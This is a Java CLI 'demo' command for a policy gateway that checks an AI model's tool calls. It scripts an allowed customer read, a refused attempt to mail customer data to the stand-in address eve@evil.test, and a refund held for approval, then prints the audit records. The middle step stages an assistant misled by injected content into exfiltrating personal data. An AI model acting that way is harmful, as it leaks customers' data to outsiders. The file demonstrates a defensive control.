package dev.sluicegate.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.sluicegate.local.idp.TokenOrder;
import dev.sluicegate.record.Ulid;
import java.net.URI;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.Callable;
import org.jspecify.annotations.Nullable;
import picocli.CommandLine.Command;
import picocli.CommandLine.Mixin;

/** The first minutes with a running stack: three calls as an assistant would make them, and what is recorded. */
@Command(
        name = "demo",
        description = {
            "Walk through the first minutes on the running stack: a read that is allowed, an",
            "exfiltration that is refused, a refund that waits for approval, and the record of",
            "all three. Exits with 1 if a call does not end as told, such as after you changed a rule."
        })
final class DemoCommand implements Callable<Integer> {
    private static final String USER = "ada";
    private static final Duration UNTIL_ARCHIVED = Duration.ofSeconds(10);
    private static final int WIDTH = 96;
    private static final String INDENT = "   ";

    /** What the walk says before and after each call; the calls are the same for everybody. */
    private static final List<Step> STEPS =
            List.of(
                    new Step(
                            "ada works in support. Her assistant reads a customer.",
                            "crm___get_customer",
                            "{\"customer_id\":\"C-1001\"}",
                            null,
                            "Support may read single customers. What was read is remembered: from now on ada's"
                                    + " conversations hold personal data."),
                    new Step(
                            "The assistant, misled by something it read, mails the customer's data to a stranger.",
                            "mail___send",
                            "{\"to\":\"eve@evil.test\",\"subject\":\"customer\",\"body\":\"C-1001\"}",
                            "denied",
                            "ada may send mail, and she may read customers. Both in one conversation, to"
                                    + " another domain, is exfiltration: refused before anything ran."),
                    new Step(
                            "A refund of 900 EUR, more than support may do alone.",
                            "billing___refund",
                            "{\"invoice_id\":\"INV-2001\",\"amount\":900,\"currency\":\"EUR\"}",
                            "approval_required",
                            "A request for exactly this refund waits for a billing lead. A confirm button in"
                                    + " the chat is no control: it is asked outside of it."));

    private final Workspace workspace;

    @Mixin private StackSelection selection = new StackSelection();
    @Mixin private OutputFormat format = new OutputFormat();

    /**
     * @param code the refusal that is expected, or null where the call is permitted
     */
    private record Step(
            String title, String tool, String arguments, @Nullable String code, String meaning) {
        String command() {
            return RootCommand.LAUNCHER + " call " + tool + " '" + arguments + "' --user " + USER;
        }
    }

    private record Taken(Step step, McpCall.Answer answer, @Nullable ObjectNode trace) {
        Taken with(ObjectNode found) {
            return new Taken(step, answer, found);
        }

        String code() {
            return answer.value().path("structuredContent").path("code").asText();
        }

        boolean asTold() {
            return step.code() == null ? answer.isOk() : code().equals(step.code());
        }
    }

    DemoCommand(Workspace workspace) {
        this.workspace = workspace;
    }

    @Override
    public Integer call() throws InterruptedException {
        var admin = selection.admin(workspace);
        var mcp = URI.create(admin.stack().mcp());
        // a client of its own, so that the records of this walk are told apart; what ada's other
        // clients read follows her here for a day all the same
        var client = "demo-" + Ulid.next(Clock.systemUTC()).substring(16).toLowerCase(Locale.ROOT);
        var token = admin.token(TokenOrder.of(USER).withClient(client));
        say("The demo company, on " + mcp);
        var taken = new ArrayList<Taken>();
        for (var step : STEPS) {
            taken.add(take(step, mcp, token, taken.size() + 1));
        }
        say("");
        say(
                (taken.size() + 1)
                        + "  What is written down, before anything ran and before anything left.");
        for (var i = 0; i < taken.size(); i++) {
            taken.set(i, recorded(admin, taken.get(i)));
        }
        next();
        if (format.json()) {
            workspace.out().println(OutputFormat.pretty(json(taken)));
        }
        return taken.stream().allMatch(Taken::asTold) ? ExitCode.OK : ExitCode.NO;
    }

    private Taken take(Step step, URI mcp, String token, int number) {
        say("");
        say(number + "  " + step.title());
        say(INDENT + "$ " + step.command());
        var answer = McpCall.send(mcp, token, step.tool(), arguments(step));
        var taken = new Taken(step, answer, null);
        say(INDENT + (answer.isOk() ? "yes  " : "no   ") + shown(answer));
        if (taken.asTold()) {
            wrapped(step.meaning());
        } else {
            wrapped(unexpected(taken));
        }
        return taken;
    }

    private static String unexpected(Taken taken) {
        if (taken.answer().value().toString().contains("working day")) {
            return "It is the weekend where this stack is, and a rule lets refunds wait until Monday. A stack"
                    + " that believes it is Monday: "
                    + RootCommand.LAUNCHER
                    + " up --ephemeral --clock 2026-11-23T10:00:00Z";
        }
        return "That is not what the rules of the demo company say; were they changed?";
    }

    /** What came back, in one line. */
    private static String shown(McpCall.Answer answer) {
        var value = answer.value();
        var said =
                answer.isProtocolError()
                        ? value.path("message").asText()
                        : answer.isOk()
                                ? value.path("structuredContent").toString()
                                : reason(value);
        var line = CallStory.printable(said);
        return line.length() <= WIDTH ? line : line.substring(0, WIDTH - 1) + "…";
    }

    private static String reason(JsonNode result) {
        var reasons = result.path("structuredContent").path("reasons");
        return reasons.isEmpty()
                ? result.path("structuredContent").path("message").asText()
                : reasons.path(0).asText();
    }

    /** With its trace, if there is one. */
    private Taken recorded(AdminClient admin, Taken taken) throws InterruptedException {
        var callId = taken.answer().callId();
        if (callId == null) {
            say(INDENT + taken.step().tool() + ": the answer names no call");
            return taken;
        }
        LastCall.keep(workspace, callId);
        var trace = TraceCommand.archived(admin, callId, UNTIL_ARCHIVED);
        if (trace.isEmpty()) {
            say(INDENT + taken.step().tool() + ": no record of call " + callId);
            return taken;
        }
        say(INDENT + taken.step().tool() + "   " + kinds(trace.get()));
        say(INDENT + "  " + archive(trace.get()));
        say(INDENT + "  " + TraceCommand.line(callId));
        return taken.with(trace.get());
    }

    private static String kinds(ObjectNode trace) {
        if (trace.path("intentAt").isNull()) {
            return "DENIED";
        }
        return "INTENT "
                + (trace.path("exec").isObject() ? "EXEC " : "")
                + (trace.path("outcome").isObject() ? "OUTCOME" : "(no outcome)");
    }

    private static String archive(ObjectNode trace) {
        var archive = trace.path("archive");
        return archive.isObject()
                ? "archived in " + archive.path("log").asText()
                : "not archived yet";
    }

    private void next() {
        say("");
        say(
                "Now you: change a rule under policies/baseline and publish it, and the next call obeys it.");
        say(INDENT + RootCommand.LAUNCHER + " policy publish policies/baseline");
        say(INDENT + RootCommand.LAUNCHER + " whoami --user " + USER);
        say(INDENT + RootCommand.LAUNCHER + " trace --last");
    }

    private static ArrayNode json(List<Taken> taken) {
        var steps = OutputFormat.JSON.createArrayNode();
        for (var one : taken) {
            var step = steps.addObject();
            step.put("title", one.step().title())
                    .put("tool", one.step().tool())
                    .put("asTold", one.asTold());
            step.set("arguments", arguments(one.step()));
            step.set("answer", one.answer().value());
            if (one.trace() != null) {
                step.set("trace", one.trace());
            }
        }
        return steps;
    }

    private static JsonNode arguments(Step step) {
        return OutputFormat.read(step.arguments());
    }

    private void wrapped(String text) {
        var line = new StringBuilder();
        for (var word : text.split(" ", -1)) {
            if (line.length() + word.length() + 1 > WIDTH) {
                say(INDENT + line);
                line.setLength(0);
            }
            line.append(line.isEmpty() ? "" : " ").append(word);
        }
        say(INDENT + line);
    }

    /** For people, unless the data is asked for. */
    private void say(String line) {
        if (!format.json()) {
            workspace.out().println(line);
        }
    }
}
